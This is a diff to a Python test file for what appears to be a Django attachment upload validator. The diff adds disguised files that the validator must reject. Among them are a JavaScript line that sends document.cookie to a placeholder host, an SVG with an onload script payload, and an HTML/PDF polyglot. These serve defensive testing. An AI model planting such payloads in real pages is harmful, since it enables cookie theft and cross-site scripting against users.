@@ -63,8 +63,11 @@ def test_a_png_named_pdf_is_judged_by_its_content():
         b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
         b"PK\x03\x04" + b"\x00" * 100,
         b"gewoon wat tekst",
+        b"document.location='https://example.org/?'+document.cookie;",
+        b"\xef\xbb\xbf<!DOCTYPE html><html><body>%PDF-1.4</body></html>",
+        b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
     ],
-    ids=["exe", "html", "svg", "zip", "text"],
+    ids=["exe", "html", "svg", "zip", "text", "js", "html-with-pdf-inside", "gif"],
 )
 def test_wrong_content_with_a_right_name_is_refused(content):
     with pytest.raises(ValidationError) as exc:
@@ -205,7 +208,13 @@ def test_a_rolled_back_caller_leaves_a_file_that_the_sweep_removes(world, attach
     old = time.time() - 7200
     for path in files:
         os.utime(path, (old, old))
-    assert sweep_orphans() == 1
+    from io import StringIO
+
+    from django.core.management import call_command
+
+    out = StringIO()
+    call_command("sweep_attachments", stdout=out)
+    assert out.getvalue().startswith("1 verweesde bijlage(n) verwijderd.")
     assert [p for p in attachment_root.rglob("*") if p.is_file()] == [
         attachment_root / kept.file.name
     ]
